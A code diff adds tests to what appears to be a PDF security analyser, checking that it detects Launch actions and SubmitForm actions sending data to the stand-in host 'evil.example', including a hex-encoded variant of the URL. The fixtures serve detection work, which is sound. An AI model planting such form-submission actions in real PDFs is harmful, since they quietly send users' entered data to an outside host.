@@ -48,6 +48,15 @@ test("a program that is started", async () => {
   expect(told.forms).toEqual([{ is: "active-markup", construct: "Launch action" }]);
 });
 
+test.each([
+  "(https://evil.example/in)",
+  "<< /FS /URL /F (https://evil.example/in) >>",
+  "<< /UF <68747470733a2f2f6576696c2e6578616d706c652f696e> >>",
+])("a form that is sent to %s", async (file) => {
+  const told = await read(`1 0 obj << /S /SubmitForm /F ${file} >> endobj\n`);
+  expect(told.operations("send")).toMatchObject([{ destination: { text: "https://evil.example/in" } }]);
+});
+
 test("links", async () => {
   const told = await read("4 0 obj << /S /URI /URI (https://docs.example/a\\(1\\)) >> endobj\n");
   expect(told.of("mention")).toMatchObject([{ what: "url", value: "https://docs.example/a(1)", as: "link" }]);
